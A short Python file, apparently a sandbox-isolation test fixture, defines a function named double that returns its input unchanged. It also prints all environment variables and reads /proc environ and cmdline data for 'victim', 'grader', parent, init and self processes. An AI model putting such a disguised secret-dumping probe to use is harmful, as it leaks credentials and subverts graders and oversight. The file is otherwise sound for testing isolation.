import os


def double(x):
    print(dict(os.environ), flush=True)
    for pid in (int("@VICTIM@"), int("@GRADER@"), os.getppid(), 1, "self"):
        for name in ("environ", "cmdline"):
            try:
                print(open(f"/proc/{pid}/{name}", "rb").read(), flush=True)
            except OSError as error:
                print(error.errno, flush=True)
    return x
